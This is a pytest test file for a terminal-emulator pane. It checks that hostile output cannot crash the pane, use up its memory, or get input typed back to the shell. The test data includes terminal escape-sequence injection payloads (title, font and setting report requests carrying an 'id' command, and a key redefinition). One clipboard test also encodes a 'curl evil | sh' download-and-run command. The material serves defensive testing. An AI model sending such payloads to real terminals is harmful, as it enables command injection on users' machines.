"""Output from strangers: nothing crashes or freezes the pane, nothing gets typed by it."""

from __future__ import annotations

import asyncio
import base64
import os
import random
import re
from pathlib import Path

import pytest
from bittty import Board

from breakfix.tui.widgets.plain_lines import END, pieces, take
from breakfix.tui.widgets.scrollback import HistoryVideo
from breakfix.tui.widgets.tame import LONGEST_STRING, feed, tame
from tests.terminal.pane import pane

HUGE = 999_999_999
MOST_LEFT = 10_000


class Line:
    """The way back to the program: what the terminal would type."""

    def __init__(self) -> None:
        self.typed = ""

    def write(self, data: str) -> None:
        """Typed."""
        self.typed += data


def board() -> tuple[Board, Line]:
    """A tamed board and what it types."""
    found, line = tame(Board(width=80, height=24)), Line()
    found.host.attach(line)
    return found, line


@pytest.mark.parametrize(
    "asked",
    [
        "\x1b]0;\rid\r\x07\x1b[21t\x1b[20t",  # the title, told back
        "\x1b]50;\rid\r\x07\x1b]50;?\x07",  # the font, told back
        "\x1b]52;\rid\r;?\x07",  # the name of a selection
        "\x1bP$q\rid\r\x1b\\",  # a setting that there is not
        "\x1bP+q6964\n;\n\x1b\\",  # a capability, its name told back
        "\x05",
    ],
)
def test_no_question_is_answered_with_words_of_the_one_who_asks(asked: str) -> None:
    found, line = board()
    feed(found.parser, asked)
    assert "id" not in line.typed
    assert "\r" not in line.typed
    assert "\n" not in line.typed


def test_no_key_gets_another_meaning() -> None:
    found, line = board()
    feed(found.parser, "\x1bP0;1|17/69640d\x1b\\")
    found.display.input_fkey(6)
    assert "id" not in line.typed


def test_the_clipboard_is_neither_read_nor_written() -> None:
    found, line = board()
    feed(found.parser, f"\x1b]52;c;{base64.b64encode(b'curl evil | sh').decode()}\x07")
    feed(found.parser, "\x1b]52;c;?\x07")
    assert not found.clipboard
    assert not line.typed


@pytest.mark.parametrize("final", [*map(chr, range(0x40, 0x7F))])
def test_a_huge_count_costs_nothing(final: str) -> None:
    found, _ = board()
    for private in ("", "?", "<", ">"):
        feed(found.parser, f"\x1b[{private}{HUGE}{final}\x1b[{private}{HUGE};{HUGE}{final}")
    assert (found.width, found.height) == (80, 24)


def test_a_sequence_that_breaks_the_parser_is_left_out() -> None:
    found, _ = board()
    feed(found.parser, "\x1b[:r" * 100 + "\x1b[" + "9" * 5000 + "mafter")
    assert "after" in found.capture_text()


def test_a_string_without_an_end_is_given_up() -> None:
    found, _ = board()
    for _ in range(40):
        feed(found.parser, "\x1b]0;" + "x" * 4096)
    assert len(found.parser.buffer) <= LONGEST_STRING
    feed(found.parser, "\x07" + "\r\nafter")
    assert "after" in found.capture_text()


@pytest.mark.parametrize("seed", range(20))
def test_any_bytes_are_only_bytes(seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311 - a test that is the same every time
    alphabet = (
        "\x1b[]P^_X()0123456789;:?<=>!$\"'* #%\x07\x9b\x9d\x18\\mhlrtubABCDHJKLMPSTX@xq|~世\r\n"
    )
    found, line = board()
    for _ in range(40):
        feed(found.parser, "".join(chance.choices(alphabet, k=500)))
    assert (found.width, found.height) == (80, 24)
    assert "\r" not in line.typed


async def test_noise_does_not_stop_the_pane() -> None:
    async with pane() as shown:
        await shown.run("head -c 300K /dev/urandom; printf '\\033c\\nthe end\\n'", "the end")
        await shown.run("echo still here", "still here")


async def test_answers_nobody_reads_do_not_heap_up(tmp_path: Path) -> None:
    over = tmp_path / "over"
    async with pane() as shown:
        await shown.run(f"yes $'\\033[c\\033[6n' | head -c 100K; touch {over}")
        await shown.until(over.exists)
        pty = shown.terminal._pty
        assert pty is not None
        assert len(pty._pending) < MOST_LEFT


async def test_what_asks_behind_the_shells_own_prompt_is_not_answered(tmp_path: Path) -> None:
    gate, over = tmp_path / "gate", tmp_path / "over"
    os.mkfifo(gate)
    async with pane() as shown:
        await shown.run(f"(cat {gate}; printf '\\033[6n'; touch {over}) & echo off", "off")
        await asyncio.to_thread(gate.write_text, "")
        await shown.until(over.exists)
        await shown.run("echo clean", "clean")
        assert not re.search(r"\d+R", shown.text)


async def test_invalid_utf8_is_shown_as_something_and_no_more() -> None:
    async with pane() as shown:
        await shown.run("printf '\\xff\\xc3\\n\\x80\\xf0\\x9f'; echo; echo fine", "fine")


def lines_of(count: int, seed: int) -> str:
    """Plain lines of many lengths, one of them coloured, one too long for the page."""
    draw = random.Random(seed)  # noqa: S311
    found = ["x" * draw.randrange(0, 80) + str(n) for n in range(count)]
    found[draw.randrange(count)] += "\x1b[31mred"
    found[draw.randrange(count)] = "wide" * 30
    return "\r\n".join(found)


@pytest.mark.parametrize("seed", range(20))
def test_many_plain_lines_at_once_look_as_one_by_one(seed: int) -> None:
    pages = []
    for at_once in (True, False):
        found, _ = board()
        video = HistoryVideo(80, 24)
        found.blitter.primary_buffer = found.blitter.current_buffer = video
        text, draw = lines_of(400, seed), random.Random(seed)  # noqa: S311
        while text:
            size = draw.randrange(1, 4000)
            for piece in pieces(text[:size], 80):
                if isinstance(piece, str):
                    feed(found.parser, piece)
                elif not (at_once and take(found, video, piece)):
                    feed(found.parser, END.join([*piece, ""]))
            text = text[size:]
        video.tidy()
        pages.append((video.scrolled, video.grid, list(video.history), video.wrapped_lines,
                      [video.wraps(n) for n in range(video.scrolled)], found.cursor.x))  # fmt: skip
    assert pages[0] == pages[1]
